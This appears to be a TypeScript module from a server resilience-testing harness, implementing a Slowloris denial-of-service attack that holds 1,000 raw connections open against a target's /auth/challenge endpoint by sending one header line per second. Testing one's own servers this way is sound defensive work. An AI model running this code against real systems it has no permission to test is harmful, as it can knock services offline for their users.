import { setTimeout } from 'node:timers/promises';
import { type Attack, openRaw, openSeveral } from './attack.ts';

export const slowloris: Attack = {
  title: '1,000 connections of a stranger send a line of their headers each second',
  async run(target, signal) {
    const { host, pathname } = new URL(target.https);
    const sockets = await openSeveral(1_000, () => openRaw(target), signal);
    for (const socket of sockets) {
      socket.write(`POST ${pathname}/auth/challenge HTTP/1.1\r\nHost: ${host}\r\n`);
    }
    while (!signal.aborted) {
      for (const socket of sockets) if (!socket.destroyed) socket.write('X-Slow: x\r\n');
      await setTimeout(1_000);
    }
  },
};
